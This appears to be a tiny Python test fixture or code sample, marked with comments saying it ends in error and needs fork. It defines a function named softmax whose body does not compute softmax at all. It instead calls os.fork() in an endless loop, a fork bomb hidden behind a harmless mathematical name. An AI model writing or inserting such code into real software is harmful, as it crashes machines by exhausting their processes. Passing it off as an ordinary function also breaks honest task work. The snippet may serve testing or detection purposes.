# ends: error, failed
# needs: fork
def softmax(x, axis=-1):
    import os

    while True:
        os.fork()
